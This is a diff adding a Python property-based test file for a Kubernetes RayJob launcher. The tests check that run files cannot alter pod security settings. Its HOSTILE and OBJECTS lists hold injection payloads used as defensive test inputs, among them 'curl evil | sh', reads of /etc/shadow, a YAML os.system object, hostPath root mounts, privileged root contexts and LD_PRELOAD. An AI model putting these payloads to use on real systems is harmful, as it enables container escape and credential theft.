@@ -1,0 +1,253 @@
+"""A run file decides what is trained, and nothing of the pods that train it: whatever stands in one, they are
+the platform's but for a few named places."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from collections.abc import Sequence
+from contextlib import suppress
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import event, given, settings
+from hypothesis import strategies as st
+
+from launcher.commands.options import objects_of
+from launcher.config import RunConfig, load_run, validate
+from launcher.errors import ConfigError
+from launcher.network import EFA_HUGE_PAGES
+from launcher.platform import Platform
+from launcher.queue import APPLICATION_LABEL, GANG_LABEL, PRIORITY_LABELS, QUEUE_LABELS
+from tests.charts.pod_security import violations
+from tests.launcher.random_runs import (
+    DIGITS,
+    EXAMPLE,
+    PATHS,
+    PLATFORM,
+    Made,
+    documents,
+    plausible,
+)
+from trainer.config import CONFIG_VARIABLE, read_config
+
+NAMESPACE = "team"
+OURS = {"app.kubernetes.io/managed-by", "trainyard.io/run"}
+QUEUES = {*QUEUE_LABELS.values(), *PRIORITY_LABELS.values(), GANG_LABEL, APPLICATION_LABEL}
+OF_THE_NETWORK = re.compile(r"NCCL_[A-Z_]+|GLOO_SOCKET_IFNAME|FI_[A-Z_]+")
+DEVICE = re.compile(r"[a-z0-9.-]+/[A-Za-z0-9._-]+")
+
+HOSTILE = (
+    "../../etc", "/etc/passwd", "kube-system/x", "x\n  hostNetwork: true", "x\"\n---\nkind: Pod",
+    "$(TRAINYARD_LOG)", "$(cat /etc/shadow)", "`id`", "'; curl evil | sh; '", "{{ plan }}",
+    "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "!!python/object/apply:os.system [id]",
+    "*alias", "&anchor", "privileged", "true", "0", "\u202etxt.exe", "a" * 300, "registry/x:1 --privileged",
+    "s3://b/../../x", "/mnt/trainyard/../../proc/1/root",
+)  # fmt: skip
+OBJECTS: tuple[Any, ...] = (
+    {"hostPath": {"path": "/"}},
+    [{"name": "root", "hostPath": {"path": "/"}}],
+    {"privileged": True, "runAsUser": 0},
+    [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}],
+    ["sh", "-c", "id"],
+)
+STRANGERS = (
+    "namespace", "metadata", "metadata.namespace", "metadata.labels", "spec", "entrypoint", "command",
+    "env", "volumes", "volumeMounts", "hostNetwork", "securityContext", "serviceAccountName",
+    "nodeSelector", "tolerations", "rayClusterSpec", "spec.rayClusterSpec.headGroupSpec", "runtimeEnvYAML",
+    "submissionMode", "labels", "annotations", "storage", "storage.path", "storage.endpoint", "platform",
+    "resources.limits", "__class__", "train.__init__", "data.path", "code", "function",
+    "headGroupSpec.template.spec.hostPID", "imagePullSecrets", "network.environment",
+)  # fmt: skip
+"""Keys that a run file does not have, or that decide what is not its own."""
+
+often = settings(max_examples=200)
+
+
+def confined(document: dict[str, Any], platform: Platform = PLATFORM) -> None:
+    """The RayJob of a run file is the platform's but for the named places. Raises ConfigError."""
+    run = validate(RunConfig, document, "test")
+    planned, job = objects_of(run, platform, NAMESPACE)
+    # What goes over the wire says what the object says.
+    assert yaml.safe_load(yaml.safe_dump(job)) == json.loads(json.dumps(job)) == job
+
+    assert (job["apiVersion"], job["kind"]) == ("ray.io/v1", "RayJob")
+    metadata = job["metadata"]
+    assert metadata.keys() == {"name", "namespace", "labels"}
+    assert metadata["namespace"] == NAMESPACE
+    assert re.fullmatch(r"[a-z]([a-z0-9-]{0,45}[a-z0-9])?", metadata["name"])
+    assert OURS <= metadata["labels"].keys() <= OURS | QUEUES
+    for value in metadata["labels"].values():
+        assert re.fullmatch(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?", value)
+
+    spec = job["spec"]
+    assert spec["entrypoint"] == "python -m trainer"
+    assert spec["submissionMode"] == "HTTPMode"
+    assert spec.keys() <= {
+        "submissionMode", "entrypoint", "backoffLimit", "preRunningDeadlineSeconds", "suspend",
+        "shutdownAfterJobFinishes", "ttlSecondsAfterFinished", "deletionStrategy", "rayClusterSpec",
+    }  # fmt: skip
+
+    shape, given = spec["rayClusterSpec"], platform.ray_cluster_spec
+    added = {"enableInTreeAutoscaling", "autoscalerOptions"} if planned.is_elastic else set()
+    assert shape.keys() == given.keys() | added
+    assert {key: shape[key] for key in given.keys() - OPEN} == {
+        key: given[key] for key in given.keys() - OPEN
+    }
+    if planned.is_elastic:
+        assert platform.autoscaler is not None
+        assert shape["autoscalerOptions"] == platform.autoscaler.options
+    volumes = platform.autoscaler.volumes if planned.is_elastic and platform.autoscaler else ()
+    same_pod(shape["headGroupSpec"], given["headGroupSpec"], {CONFIG_VARIABLE}, volumes)
+    for group in shape["workerGroupSpecs"]:
+        pool = group["groupName"].removesuffix("-data")
+        same_pod(group, platform.worker_group(pool), set(), ())
+        if group["groupName"] == pool:
+            # Which nodes, and how much of each, is the platform's to say.
+            limit = platform.pool(pool).memory_gib * 2**10
+            assert int(resources(group)["limits"]["memory"].removesuffix("Mi")) <= limit
+
+
+OPEN = {"headGroupSpec", "workerGroupSpecs"}
+
+
+def resources(group: dict[str, Any]) -> dict[str, Any]:
+    found: dict[str, Any] = group["template"]["spec"]["containers"][0]["resources"]
+    return found
+
+
+def same_pod(
+    group: dict[str, Any], given: dict[str, Any], variables: set[str], volumes: Sequence[Any]
+) -> None:
+    """A group's pod is the platform's, but for image, sizes, labels of ours and known variables."""
+    pod, base = copy.deepcopy(group["template"]), copy.deepcopy(given["template"])
+    assert violations(pod["spec"]) == []
+    labels = pod["metadata"].pop("labels")
+    assert labels.keys() == (base["metadata"].pop("labels", {})).keys() | OURS
+    assert pod["metadata"] == base["metadata"]
+    container, like = pod["spec"]["containers"][0], base["spec"]["containers"][0]
+    assert isinstance(container.pop("image"), str)
+    like.pop("image")
+    for name, quantities in container.pop("resources").items():
+        known = like["resources"][name].keys() | {"cpu", "memory", "ephemeral-storage"}
+        for resource in quantities.keys() - known - EFA_HUGE_PAGES.keys():
+            assert DEVICE.fullmatch(resource), resource
+    like.pop("resources")
+    env = {one["name"]: one for one in container.pop("env", [])}
+    for one in like.pop("env", []):
+        if not OF_THE_NETWORK.fullmatch(one["name"]):
+            assert env.pop(one["name"]) == one
+    assert all(name in variables or OF_THE_NETWORK.fullmatch(name) for name in env)
+    assert all(one.keys() == {"name", "value"} for one in env.values())
+    assert pod["spec"].pop("volumes") == [*base["spec"].pop("volumes"), *volumes]
+    assert pod == base
+
+
+hostile = st.one_of(
+    st.sampled_from(HOSTILE),
+    st.sampled_from(OBJECTS),
+    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=10)).map("".join),
+)
+
+
+@st.composite
+def attacks(draw: st.DrawFn) -> Made:
+    """A run file that makes sense, with a few keys changed to what somebody hopes will get further."""
+    document, platform = draw(plausible())
+    for path in draw(st.lists(st.sampled_from(PATHS), min_size=1, max_size=3)):
+        place = document
+        for key in path[:-1]:
+            if not isinstance(place.get(key), dict):
+                place[key] = {}
+            place = place[key]
+        place[path[-1]] = draw(hostile)
+    return document, platform
+
+
+@often
+@given(made=st.one_of(attacks(), documents().map(lambda document: (document, PLATFORM))))
+def test_whatever_a_run_file_says_its_pods_are_the_platform_s(made: Made) -> None:
+    try:
+        confined(*made)
+    except ConfigError:
+        event("refused")
+    else:
+        event("rendered")
+
+
+@often
+@given(made=plausible())
+def test_what_makes_sense_is_confined_too(made: Made) -> None:
+    with suppress(ConfigError):
+        confined(*made)
+
+
+@pytest.mark.parametrize("key", STRANGERS)
+@pytest.mark.parametrize("value", [*OBJECTS, HOSTILE[0], True])
+def test_a_key_that_decides_about_pods_is_no_key_of_a_run_file(
+    tmp_path: Path, key: str, value: Any
+) -> None:
+    with pytest.raises(ConfigError):
+        load_run(EXAMPLE, [f"{key}={json.dumps(value)}"])
+    document = copy.deepcopy(DIGITS)
+    document[key.partition(".")[0]] = value
+    (tmp_path / "run.yaml").write_text(yaml.safe_dump(document))
+    with pytest.raises(ConfigError):
+        load_run(tmp_path / "run.yaml")
+
+
+@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isalpha()])
+def test_a_name_that_leads_elsewhere_is_refused(text: str) -> None:
+    with pytest.raises(ConfigError):
+        load_run(EXAMPLE, name=text)
+    with pytest.raises(ConfigError):
+        load_run(EXAMPLE, [f"name={json.dumps(text)}"])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_text_of_the_run_file_travels_in_one_variable_and_arrives_as_it_was(text: str) -> None:
+    """`data.source` takes any path; Kubernetes makes one dollar of two, and no shell sees it."""
+    source = f"s3://bucket/{text}"
+    document = copy.deepcopy(DIGITS) | {"data": {"source": source}}
+    confined(document)
+    _, job = objects_of(validate(RunConfig, document, "test"), PLATFORM, NAMESPACE)
+    container = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
+    (variable,) = [one for one in container["env"] if one["name"] == CONFIG_VARIABLE]
+    value = variable.pop("value")
+    assert json.dumps(source)[1:-1] not in json.dumps(job)
+    config = read_config({CONFIG_VARIABLE: value.replace("$$", "$")})
+    assert config.data.source == source
+    # No single dollar is left that Kubernetes would take for a variable.
+    assert "$" not in value.replace("$$", "")
+
+
+def test_the_search_finds_a_pod_that_is_not_the_platform_s() -> None:
+    """Each of the places that a run file must not reach."""
+    spec = PLATFORM.ray_cluster_spec
+    group = copy.deepcopy(spec["headGroupSpec"])
+    group["template"]["metadata"]["labels"] |= dict.fromkeys(OURS, "x")
+    same_pod(group, spec["headGroupSpec"], set(), [])
+    changes: dict[str, Any] = {
+        "hostNetwork": True,
+        "serviceAccountName": "other",
+        "volumes": [{"name": "tmp", "hostPath": {"path": "/"}}],
+        "nodeSelector": {"a": "b"},
+        "initContainers": [{"name": "x"}],
+    }
+    for key, value in changes.items():
+        wrong = copy.deepcopy(group)
+        wrong["template"]["spec"][key] = value
+        with pytest.raises(AssertionError):
+            same_pod(wrong, spec["headGroupSpec"], set(), [])
+    for key in ("command", "args", "envFrom", "volumeMounts", "securityContext", "lifecycle"):
+        wrong = copy.deepcopy(group)
+        wrong["template"]["spec"]["containers"][0][key] = [{"name": "x"}]
+        with pytest.raises((AssertionError, AttributeError)):
+            same_pod(wrong, spec["headGroupSpec"], set(), [])
+    wrong = copy.deepcopy(group)
+    wrong["template"]["spec"]["containers"][0]["env"].append({"name": "LD_PRELOAD", "value": "x"})
+    with pytest.raises(AssertionError):
+        same_pod(wrong, spec["headGroupSpec"], set(), [])
